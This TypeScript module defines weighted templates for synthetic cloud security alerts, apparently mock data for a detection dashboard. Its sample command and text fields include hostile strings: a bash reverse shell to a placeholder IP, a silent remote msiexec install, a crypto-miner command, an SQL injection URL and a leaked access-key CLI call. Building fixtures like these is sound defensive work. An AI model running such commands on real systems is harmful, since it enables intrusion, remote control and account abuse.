import type { Alert } from "./records";

/** What happens on a host: an alert, in the words of the service. */
export interface Threat {
  readonly name: string;
  readonly nameEn: string;
  readonly code: string;
  readonly type: string;
  readonly typeCode: string;
  readonly level: Alert["AlertLevel"];
  /** How often, beside the others. */
  readonly weight: number;
  readonly product: string;
  readonly module: string;
  readonly technique: string;
  /** What it concerns, beside the host. */
  readonly entities: readonly ("ip" | "file" | "process" | "domain")[];
  /** `{host}`, `{ip}`, `{file}`, `{command}` and `{domain}` stand for what an alert has. */
  readonly text: string;
  /** What ran. */
  readonly command: string;
}

/** Names, levels and products as samples of the documents have them (webshell_online, login_common_ip), and their like. */
const named: readonly (Omit<Threat, "nameEn"> & { readonly nameEn?: string })[] = [
  {
    name: "webshell_online",
    code: "webshell_online",
    type: "Webshell",
    typeCode: "webshell",
    level: "serious",
    weight: 4,
    product: "sas",
    module: "aegis",
    technique: "T1505.003",
    entities: ["file", "ip"],
    text: "A webshell {file} was found on {host}, uploaded from {ip}.",
    command: "php {file}",
  },
  {
    name: "login_common_ip",
    code: "login_common_ip",
    type: "Unusual Logon",
    typeCode: "login",
    level: "suspicious",
    weight: 22,
    product: "sas",
    module: "aegis",
    technique: "T1078",
    entities: ["ip"],
    text: "Somebody logged on to {host} from the unusual address {ip}.",
    command: "sshd: root@pts/0",
  },
  {
    name: "异常登录",
    nameEn: "Unusual logon place",
    code: "login_unusual_place",
    type: "Unusual Logon",
    typeCode: "login",
    level: "remind",
    weight: 16,
    product: "sas",
    module: "aegis",
    technique: "T1078",
    entities: ["ip"],
    text: "Somebody logged on to {host} from {ip}, a place that is new.",
    command: "sshd: deploy@pts/1",
  },
  {
    name: "bruteforce_ssh",
    code: "bruteforce_ssh",
    type: "Brute-force Attack",
    typeCode: "bruteforce",
    level: "suspicious",
    weight: 18,
    product: "cfw",
    module: "ips",
    technique: "T1110",
    entities: ["ip"],
    text: "{ip} tried many passwords on {host} and was blocked.",
    command: "sshd: [accepted]",
  },
  {
    name: "waf_sql_injection",
    code: "waf_sql_injection",
    type: "Web Attack",
    typeCode: "web_attack",
    level: "remind",
    weight: 20,
    product: "waf",
    module: "web",
    technique: "T1190",
    entities: ["ip", "domain"],
    text: "{ip} sent https://{domain}/item?id=1%27%20OR%201=1 to {host}.",
    command: "nginx: worker process",
  },
  {
    name: "suspicious_process_msiexec",
    code: "proc_msiexec",
    type: "Suspicious Process",
    typeCode: "process",
    level: "serious",
    weight: 5,
    product: "sas",
    module: "aegis",
    technique: "T1218.007",
    entities: ["process", "domain"],
    text: "On {host} msiexec loads a package: {command}",
    command: "msiexec /q /i http://{domain}/a.msi TOKEN=s3cr3t-{ip}",
  },
  {
    name: "reverse_shell",
    code: "reverse_shell",
    type: "Suspicious Process",
    typeCode: "process",
    level: "serious",
    weight: 3,
    product: "sas",
    module: "aegis",
    technique: "T1059.004",
    entities: ["process", "ip"],
    text: "A shell of {host} is connected to {ip}: {command}",
    command: "bash -i >& /dev/tcp/{ip}/4444 0>&1",
  },
  {
    name: "miner_software",
    code: "miner_software",
    type: "Mining",
    typeCode: "mining",
    level: "serious",
    weight: 6,
    product: "sas",
    module: "aegis",
    technique: "T1496",
    entities: ["process", "file", "domain"],
    text: "{host} mines: {file} talks to {domain}.",
    command: "{file} -o stratum+tcp://{domain}:3333 -u 4Ab --pass x",
  },
  {
    name: "malware_trojan",
    code: "malware_trojan",
    type: "Malware",
    typeCode: "virus",
    level: "serious",
    weight: 5,
    product: "sas",
    module: "aegis",
    technique: "T1204.002",
    entities: ["file"],
    text: 'The file {file} on {host} is a trojan ("Trojan:Linux/Mirai").',
    command: "{file}",
  },
  {
    name: "dns_tunnel",
    code: "dns_tunnel",
    type: "Suspicious Network",
    typeCode: "network",
    level: "suspicious",
    weight: 6,
    product: "cfw",
    module: "dns",
    technique: "T1071.004",
    entities: ["domain"],
    text: "{host} asks for names below {domain} all the time.",
    command: "dig TXT {domain}",
  },
  {
    name: "accesskey_leak_call",
    code: "ak_leak",
    type: "Cloud Account",
    typeCode: "cloud_account",
    level: "serious",
    weight: 2,
    product: "actiontrail",
    module: "trail",
    technique: "T1552",
    entities: ["ip"],
    text: "An AccessKey that leaked was used from {ip}; it belongs to {host}.",
    command: "aliyun ecs DescribeInstances --access-key-id LTAI5tExample{ip}",
  },
  {
    name: "port_scan",
    code: "port_scan",
    type: "Reconnaissance",
    typeCode: "scan",
    level: "remind",
    weight: 25,
    product: "cfw",
    module: "ips",
    technique: "T1046",
    entities: ["ip"],
    text: "{ip} tried the ports of {host}.",
    command: "",
  },
];

/** Everything that happens, each as often as its weight says. */
export const threats: readonly Threat[] = named.flatMap((threat) =>
  Array.from({ length: threat.weight }, () => ({ nameEn: threat.name, ...threat })),
);
